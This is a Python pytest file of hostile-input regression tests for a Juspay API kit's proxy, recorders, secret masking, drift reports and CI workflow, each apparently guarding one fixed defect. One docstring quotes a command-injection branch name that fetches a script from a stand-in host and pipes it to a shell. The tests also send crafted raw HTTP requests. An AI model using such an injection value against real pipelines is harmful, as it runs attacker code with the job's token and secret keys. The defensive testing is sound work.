"""Hostile input to the traffic surfaces, second pass (the first: test_traffic_hostile.py): refresh apply held to
what juspay-learn writes, a HAR recorded by two proxies at once, recordings kept within what the kit reads back
(whatever an upstream answers or a web page sends), secrets in form bodies and Basic passwords, the nightly
workflow's script. Each test is one defect, failing before its fix (and one guard that learn's own proposals
still apply). In-process but for a loopback upstream."""

from __future__ import annotations

import base64
import fcntl
import json
import re
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from juspay_kit import api, spec
from juspay_kit.errors import UsageError
from juspay_kit.proxy import cassette, har
from juspay_kit.proxy.recordings import convert, read
from juspay_kit.redact import Redactor
from juspay_kit.refresh.learned import apply_proposal
from juspay_kit.traffic import drift, learn, report, shares
from tests.test_traffic_hostile import FETCH, SANDBOX, assert_refused, exchange, judged

_SCHEMAS = "/components/schemas"


@pytest.mark.parametrize(
    "operations",
    [[{"op": "replace", "path": "/servers/0/url", "value": "https://api.juspay.in"}],
     [{"op": "replace", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken",
       "value": {"type": "string"}}],
     [{"op": "add", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken/x-juspay-secret", "value": "otp"}],
     [{"op": "add", "path": f"{_SCHEMAS}/SessionContext/properties/secureToken",
       "value": {"type": "string", "x-inferred": {"id": "x", "reason": "r"}}}],
     [{"op": "replace", "path": f"{_SCHEMAS}/OtpLimits/properties/codeExpiration/x-inferred",
       "value": {"id": "code-expiration-minutes", "reason": "Documented now."}}],
     [{"op": "replace", "path": f"{_SCHEMAS}/TriggerOtpRefusal/properties/errorCode/enum", "value": ["ONLY_THIS"]}],
     [{"op": "add", "path": f"{_SCHEMAS}/FetchPaymentCredentialsResponse/properties/panReferenceId",
       "value": {"type": "string"}}],
     [{"op": "replace", "path": f"{_SCHEMAS}/OtpLimits",
       "value": {"type": "object", "properties": {"codeExpiration": {"type": "string"}}}}],
     [{"op": "replace", "path": "/components/responses/TriggerOtpConflict/content/application~1json/schema",
       "value": {"$ref": f"#{_SCHEMAS}/TriggerOtpRequest"}}]],
)  # fmt: skip
def test_refresh_apply_refuses_a_proposal_that_changes_what_learn_never_changes(
    tmp_path: Path, operations: Any
) -> None:
    """Each applied silently (a proposal needed only to apply and validate): the production server in place of the
    sandbox, a credential no longer masked (or masked as an OTP), an inferred part made documented fact, refusal
    codes dropped, a learned field without its mark, the counters' marks lost, a response's schema swapped."""
    assert_refused(tmp_path, operations)


def test_refresh_apply_still_applies_what_learn_proposes(tmp_path: Path) -> None:
    learner = learn.Learner()
    answers = [("triggerOtp", 429, {"status": "FAILURE", "errorCode": "NEW_CODE", "errorMessage": "x"}),
               ("triggerOtp", 200, {**api.example(spec.load(), "triggerOtp"), "response": {
                   "MaxOTPVerificationAllowed": "3", "MaxOTPRequestsAllowed": "3", "CodeExpiration": "5"}}),
               ("validateOtp", 423, {"status": "FAILURE", "responseCode": "SESSION_LOCKED", "responseMessage": "x"}),
               ("fetchPaymentCredentials", 200, {**api.example(spec.load(), "fetchPaymentCredentials"), "panRef": "p"}),
               ("triggerOtp", 409, {"result": "FAILURE", "reasonCode": 17})]  # fmt: skip
    for n, (operation, status, answer) in enumerate(answers):
        request = FETCH if operation == "fetchPaymentCredentials" else None
        learner.exchange(exchange(operation, status, answer, request, n=n), f"e{n}")
    proposals = learner.proposals("2026-12-06")
    assert {p["learned"]["kind"] for p in proposals} == {"refusal-codes", "counters", "status", "fields", "envelope"}
    for proposal in proposals:
        path, document = tmp_path / "p.json", tmp_path / "openapi.yaml"
        path.write_text(json.dumps(proposal))
        document.write_bytes(spec.SPEC_PATH.read_bytes())
        apply_proposal(path, document)
        assert document.read_bytes() != spec.SPEC_PATH.read_bytes()


def test_two_proxies_recording_one_har_keep_it_valid_after_every_write(tmp_path: Path) -> None:
    """Each writer remembered whether the file held an entry when it opened it: the second proxy's first entry
    went in without its comma (and two writes at once at the same offset tore each other): not JSON any more."""
    path = tmp_path / "x.har"
    writers = [har.HarWriter(path, {"upstream": SANDBOX}, Redactor()) for _ in range(2)]

    def record(writer: har.HarWriter, n: int) -> None:
        for m in range(20):
            writer.write(exchange("triggerOtp", n=n * 100 + m) | {"seq": n * 100 + m})
            with path.open("rb") as file:  # between two writes (a reader that locks the file sees no write begun)
                fcntl.flock(file, fcntl.LOCK_SH)
                json.loads(file.read())

    threads = [threading.Thread(target=record, args=(writer, n)) for n, writer in enumerate(writers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    seqs = [e["seq"] for e in read(path).exchanges]
    assert sorted(seqs) == [n * 100 + m for n in range(2) for m in range(20)]
    with path.open("rb") as other:  # a lock another program keeps: recording stops, the traffic never waits on it
        fcntl.flock(other, fcntl.LOCK_SH)
        started = time.monotonic()
        writers[1].write(exchange("triggerOtp"))
        assert writers[1].failed and time.monotonic() - started < 2
    with path.open("r+b") as file:  # another program cuts the file: the writer stops rather than tear it
        file.truncate(path.stat().st_size - 3)
    before = path.read_bytes()
    writers[0].write(exchange("triggerOtp"))
    assert writers[0].failed and path.read_bytes() == before
    for writer in writers:
        writer.close()


def _answered(**body: Any) -> dict[str, Any]:
    request = {"method": "POST", "path": "/initiateVerification", "query": "", "headers": {}}
    return {"seq": 1, "at": 0, "request": request, "response": {"status": 200, "headers": {}, **body}, "error": None,
            "violations": []}  # fmt: skip


def test_an_answer_of_control_characters_leaves_the_proxys_cassette_readable(tmp_path: Path) -> None:
    """An answer at the proxy's cap (16 MiB) of control characters is a 96 MiB line (each one `\\u0001`): the
    readers refused lines over 64 MiB, so one hostile answer made the night's whole recording unreadable."""
    from juspay_kit.proxy.upstream import MAX_ANSWER_BYTES

    path = tmp_path / "c.jsonl"
    writer = cassette.CassetteWriter(path, {"upstream": SANDBOX}, Redactor())
    writer.write(_answered(**cassette.body_fields(Redactor(), b"\x01" * MAX_ANSWER_BYTES)))
    writer.close()
    assert writer.failed is None
    assert [len(e["response"]["bodyText"]) for e in read(path).exchanges] == [MAX_ANSWER_BYTES]


@pytest.mark.parametrize("name", ["c.jsonl", "c.har"])
def test_a_recording_stops_before_it_grows_past_what_the_kit_reads(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """The proxy wrote on past MAX_CASSETTE_BYTES (and a line past MAX_LINE_BYTES): the readers then refused the
    whole file. Recording stops as on a full disk, the file ends with its last whole exchange."""
    from juspay_kit.proxy.recordings import recorder_for

    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 4_000)
    path = tmp_path / name
    writer = recorder_for(path, {"upstream": SANDBOX}, Redactor())
    for n in range(20):
        writer.write(_answered(bodyText="x" * 300) | {"seq": n})
    writer.close()
    assert writer.failed and path.stat().st_size <= 4_000
    assert 3 <= len(list(read(path).exchanges)) < 20
    if name.endswith(".jsonl"):
        monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 10**9)
        monkeypatch.setattr(cassette, "MAX_LINE_BYTES", 1_000)
        writer = recorder_for(long := tmp_path / "long.jsonl", {"upstream": SANDBOX}, Redactor())
        writer.write(_answered(bodyText="\x01" * 200))  # 1,200 bytes as JSON
        writer.close()
        assert writer.failed and list(read(long).exchanges) == []


def test_convert_never_writes_a_recording_the_kit_cannot_read_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Masking can make a recording longer than its source (`[masked]` for a four-digit OTP); OUT was written
    whatever its size, past what every reader refuses."""
    source = tmp_path / "in.har"
    source.write_bytes(har.head({}) + b",\n".join(har.encoded(har.entry(exchange("triggerOtp", n=n), SANDBOX))
                                                   for n in range(10)) + har.CLOSING)  # fmt: skip
    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", source.stat().st_size)
    for name in ("out.jsonl", "out.har", "out.yaml"):
        (target := tmp_path / name).write_text("before")
        try:
            convert(source, target)
        except UsageError as exc:
            assert "larger than" in str(exc) and target.read_text() == "before"
        else:
            assert target.stat().st_size <= cassette.MAX_CASSETTE_BYTES
    monkeypatch.setattr(cassette, "MAX_CASSETTE_BYTES", 2_000)
    with pytest.raises(UsageError, match="larger than"):
        convert(source, tmp_path / "out.jsonl")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_an_otp_and_a_card_number_in_a_form_encoded_body_are_masked(tmp_path: Path) -> None:
    """Only JSON and `"name": value` text were searched for secret fields: a form post (`otpValue=482913&...`)
    reached the proxy's cassette, and every converted recording, in clear."""
    form = "otp_value=482913&networkType=VISA&tokenNumber=4111111111111111"
    redactor = Redactor()
    fields = cassette.body_fields(redactor, form.encode())  # what the proxy records
    line = cassette.line_of(_answered() | {"request": {**_answered()["request"], **fields}}, redactor)
    assert b"482913" not in line and b"4111111111111111" not in line
    record = exchange("validateOtp", 200, {"status": "SUCCESS", "echo": "code 482913"}, "")
    record["request"] = {**record["request"], "bodyText": form}
    del record["request"]["body"]
    source = tmp_path / "in.har"
    source.write_bytes(har.head({}) + har.encoded(har.entry(record, SANDBOX)) + har.CLOSING)
    for name in ("out.jsonl", "out.har", "out.yaml"):
        convert(source, tmp_path / name)
        written = (tmp_path / name).read_text()
        assert "482913" not in written and "4111111111111111" not in written, name


def test_the_nightly_never_expands_a_github_expression_inside_a_shell_script() -> None:
    """`--base "${{ github.ref_name }}"` was pasted into the script before bash read it: a branch named
    `x$(curl${IFS}evil.test|sh)` (spaces are not allowed in a branch name, `$(` is), run by workflow_dispatch, ran
    its command with the job's token and the sandbox key. Values reach scripts through `env:`, quoted."""
    import yaml

    for path in sorted((spec.ROOT / ".github" / "workflows").glob("*.yml")):  # every workflow, every job
        workflow = yaml.safe_load(path.read_text())
        for job in workflow["jobs"].values():
            for step in job.get("steps", []):
                expressions = re.findall(r"\$\{\{\s*([^}]*?)\s*\}\}", step.get("run", ""))
                assert all(e.startswith("steps.") and e.endswith(".outputs.exit_code") for e in expressions), (
                    path.name,
                    step["run"],
                )


def test_a_request_any_web_page_can_send_never_poisons_the_proxys_recording(tmp_path: Path) -> None:
    """A page the developer visits may POST to the proxy without a preflight: to `//x` (a path the readers refuse,
    as a replay would read it as another host), or with `Content-Type: text/plain;<TAB>charset=utf-8` (a tab is
    legal in a header value; the readers refused it). Either exchange was recorded, and replay, drift and convert
    then refused the whole cassette or HAR."""
    import socket

    from tests.loopback import raw_server
    from tests.test_proxy import KEY
    from tests.test_proxy_hostile import OK, post, proxy

    record = tmp_path / "c.jsonl"
    with raw_server(lambda n, request: (OK, False)) as (upstream, _), proxy(upstream, record) as (url, app, out):
        host, port = url.removeprefix("http://").rsplit(":", 1)
        for target, kind in ((b"//x", b"text/plain"), (b"/initiateVerification", b"text/plain;\tx=y")):
            with socket.create_connection((host, int(port)), timeout=5) as sock:
                sock.sendall(b"POST %s HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: %s\r\ncontent-length: 2\r\n"
                             b"connection: close\r\n\r\nhi" % (target, kind))  # fmt: skip
                assert sock.recv(100).startswith(b"HTTP/1.1 200 ")
        assert post(url).status_code == 200
        sent = {"authorization": "Basic " + api.encode_basic(KEY), f"x-{KEY}": "1"}  # masked, no header name at all
        assert post(url, headers=sent).status_code == 200
    recorded = list(read(record).exchanges)
    assert [e["request"]["path"] for e in recorded] == ["/initiateVerification"] * 2
    assert recorded[0]["request"]["headers"]["content-type"] == "text/plain;\tx=y"
    assert "not recorded: POST //x" in out.getvalue() and "not recorded: POST /initiateVerification" in out.getvalue()


def test_the_password_of_a_basic_credential_is_masked_wherever_it_appears() -> None:
    """Only the user name (the key) of `Basic base64(key:password)` was learned: the API takes an empty password,
    but a client that sends one had it echoed in clear (in an answer, a report, a converted recording)."""
    from juspay_kit.proxy.recorded import Masker

    masker = Masker()
    authorization = "Basic " + base64.b64encode(b"sk_hostile_Wq83jZp0:pw-Xq9t2LmZ").decode()
    record = exchange("triggerOtp", 401, {"echo": "wrong password pw-Xq9t2LmZ"}, authorization=authorization)
    masker.learn(record)
    assert "pw-Xq9t2LmZ" not in json.dumps(masker.mask(record))


def _har(path: Path, *records: dict[str, Any]) -> Path:
    path.write_bytes(har.head({}) + b",\n".join(har.encoded(har.entry(r, SANDBOX)) for r in records) + har.CLOSING)
    return path


def test_a_key_only_the_parents_share_carried_stays_masked_once_a_workers_secrets_are_absorbed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker's newest secrets were taught after the parent's keys: a key only the parent's share carried (a
    second API key, for half the night) was pushed out of the redactor, and a report naming it went out in clear."""
    from juspay_kit import redact

    for module, name, value in ((shares, "PARALLEL_FROM", 2), (redact, "MAX_SECRETS", 8), (drift, "MAX_SECRETS", 8)):
        monkeypatch.setattr(module, name, value)  # the workers fork with them
    other = "sk_other_Kq27vXw9"
    first = exchange("triggerOtp", authorization="Basic " + api.encode_basic(other))
    first["request"]["path"] = f"/echo/{other}"  # an undocumented path: a finding names it
    fetched = [exchange("fetchPaymentCredentials", 200, {"tokenNumber": f"4{n:015d}"}, FETCH, n=n) for n in range(12)]
    judge = drift.Judge()
    shares.judge(judge, lambda: read(_har(tmp_path / "t.har", first, *fetched)), 2)
    assert other not in json.dumps(judge.finish().as_dict())


def test_a_worker_whose_parent_is_gone_ends_without_a_traceback(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """Each worker held the read end of its own pipe (and of the earlier workers'): once the parent was killed (the
    OOM killer, a CI timeout), a worker with more to send than a pipe holds blocked on it forever."""
    monkeypatch.setattr(shares, "PARALLEL_FROM", 2)
    monkeypatch.setattr(drift.Judge, "state", lambda self: {"padding": "x" * 300_000})
    monkeypatch.setattr(shares, "_received", lambda receiver: receiver.close() or UsageError("gone"))  # parent dies
    judge = drift.Judge()
    with pytest.raises(UsageError, match="gone"):
        shares.judge(judge, lambda: read(_har(tmp_path / "t.har", *(exchange("triggerOtp", n=n) for n in range(6)))), 3)
    for worker in judge.workers:
        worker.join(5)
        alive = worker.is_alive()
        worker.kill()
        assert not alive
    assert "Traceback" not in capfd.readouterr().err


@pytest.mark.parametrize("where", ["json", "bodyText", "query"])
def test_an_otp_a_request_carries_outside_parsed_json_is_masked_in_drifts_reports(tmp_path: Path, where: str) -> None:
    """Drift learned secrets from parsed bodies only: a body read as text (JSON holding a lone surrogate, which no
    validator takes, or a form) or a query kept its OTP unlearned, and an answer echoing it reached every report."""
    otp, trigger = "482913", api.example(spec.load(), "triggerOtp")
    sent = exchange("validateOtp", request={"otpValue": otp, "networkType": "VISA", "note": "\ud800"})
    if where != "json":
        del sent["request"]["body"]
        sent["request"][where] = f"otpValue={otp}&networkType=VISA"
    echo = exchange("triggerOtp", answer={**trigger, "response": {**trigger["response"], "maxOTPRequestsAllowed": otp}})
    judge = drift.Judge()
    judge.recording(read(_har(tmp_path / "t.har", sent, echo)))
    report.write(judge.finish(), tmp_path, judge.redactor)
    for name in ("drift.json", "drift.md", "drift-junit.xml", "drift.sarif"):
        assert otp not in (tmp_path / name).read_text(), name


def test_a_body_of_json_null_is_judged_as_null_not_as_invalid_json() -> None:
    """`preparsed` takes None for "not parsed": drift then parsed the empty bytes it had passed instead of the body,
    and a null request or answer was "body is not valid JSON" (the proxy says "expected type object")."""
    record = exchange("triggerOtp")
    record["request"]["body"] = record["response"]["body"] = None
    found = {(f.check, f.message) for f in judged(record)[0].findings if f.where == "/"}
    assert found == {
        ("request_schema", "expected type object"),
        ("response_schema_conformance", "expected type object"),
    }


def test_an_entry_left_out_whose_start_is_no_date_leaves_the_others_timed(tmp_path: Path) -> None:
    """The text-order shortcut took the least start for the first even when it was no date ("0000-01-01...", of a
    websocket entry, which is left out unchecked): every exchange's `at` was 0, and replay lost its pacing."""
    timed = [exchange("triggerOtp", n=n) | {"startedAt": f"2026-12-06T10:00:0{5 * n}.000Z"} for n in range(2)]
    socket = {
        "startedDateTime": "0000-01-01T00:00:00.000Z",
        "_resourceType": "websocket",
        "request": {"url": "wss://x/"},
    }
    document = {"log": {"entries": [socket, *(har.entry(record, SANDBOX) for record in timed)]}}
    (path := tmp_path / "t.har").write_text(json.dumps(document))
    assert [e["at"] for e in read(path).exchanges] == [0, 5]


def test_drift_started_with_stdout_closed_exits_with_its_verdict_and_no_traceback(tmp_path: Path) -> None:
    """`juspay-drift ... >&-` leaves sys.stdout None: writing the console lines was an internal error, and the hard
    exit's flush then raised on None: a traceback, and exit 1 for a recording that does not drift."""
    import subprocess
    import sys

    har_path = _har(tmp_path / "t.har", exchange("triggerOtp"))
    code = (f"import sys; sys.argv = ['juspay-drift', {str(har_path)!r}, '--report-dir', {str(tmp_path)!r}]; "
            "sys.stdout = None; from juspay_kit.commands.drift import console; console()")  # fmt: skip
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=spec.ROOT)
    assert (ran.returncode, ran.stderr) == (0, "") and (tmp_path / "drift.json").exists()


def test_a_full_disk_for_drifts_reports_is_the_users_one_line(tmp_path: Path) -> None:
    """A report that could not be written (ENOSPC) was an OSError: "internal error ... rerun with JUSPAY_DEBUG"."""
    (tmp_path / "drift.md").symlink_to("/dev/full")
    with pytest.raises(UsageError, match=r"cannot write .*drift\.md: No space left on device"):
        report.write(drift.Drift(), tmp_path, Redactor())
    from juspay_kit.contract import report as contract_report  # the contract's reports, alike
    from juspay_kit.contract.results import RunResult

    (tmp_path / "junit.xml").symlink_to("/dev/full")
    with pytest.raises(UsageError, match=r"cannot write .*junit\.xml: No space left on device"):
        contract_report.write(RunResult("t", "mock", 0, "all", 1), tmp_path, Redactor())


def test_a_misspelt_name_of_the_client_package_stays_an_error_to_type_checkers() -> None:
    """The package imports its names when first used, by a module __getattr__: to mypy --strict it made every name
    looked up in the package Any, so `from juspay_visa_agentic_client import JuspayClinet` passed."""
    import ast

    import juspay_visa_agentic_client as client

    tree = ast.parse(Path(client.__file__ or "").read_text(encoding="utf-8"))
    assert "__getattr__" not in [node.name for node in tree.body if isinstance(node, ast.FunctionDef)]
    assert client.JuspayClient.__name__ == "JuspayClient" and "JuspayClient" in dir(client)


@pytest.mark.parametrize(
    ("httpx", "then", "shown"),
    [("sys.modules['httpx'] = None", "from juspay_visa_agentic_client import errors, limits, models; print('ok')\n"
      "    from juspay_visa_agentic_client import JuspayClient", r"ok\n.*httpx"),
     ("import httpx; del httpx.Timeout", "from juspay_visa_agentic_client import JuspayClient", r"'Timeout'")],
)  # fmt: skip
def test_the_client_package_without_a_working_httpx_imports_what_needs_none_and_names_the_fault(
    httpx: str, then: str, shown: str
) -> None:
    """Every name but the five went through the whole client: without httpx `from juspay_visa_agentic_client import
    limits` failed (limits imports nothing); an httpx lacking a name the client uses was "cannot import name"."""
    import subprocess
    import sys

    code = f"import sys\n{httpx}\ntry:\n    {then}\nexcept ImportError as error:\n    print(error)"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert ran.stderr == "" and re.search(shown, ran.stdout), ran.stdout
